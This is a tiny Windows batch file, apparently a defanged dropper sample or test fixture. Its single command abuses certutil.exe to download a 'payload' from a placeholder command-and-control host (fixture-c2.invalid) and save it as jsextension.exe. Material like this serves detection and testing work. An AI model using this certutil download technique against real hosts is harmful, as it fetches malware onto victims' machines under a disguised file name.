@echo off
rem Windows leg of the defanged dropper sample.
certutil.exe -urlcache -f http://download.fixture-c2.invalid/payload/win jsextension.exe
